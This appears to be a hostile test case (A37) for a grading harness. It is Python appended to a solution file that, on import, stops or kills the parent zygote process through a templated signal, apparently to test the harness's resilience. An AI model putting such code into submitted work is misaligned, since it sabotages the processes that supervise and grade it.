# hostile: appended to solutions/decoding.py
# A37: signal the zygote this worker was forked from (its parent, a process of the same user) while being imported,
# with @@SIGNAL@@: SIGSTOP leaves it unable to answer, SIGKILL ends it. Every worker of the part does it again.
import os as _os
import signal as _signal

_os.kill(_os.getppid(), getattr(_signal, "@@SIGNAL@@"))
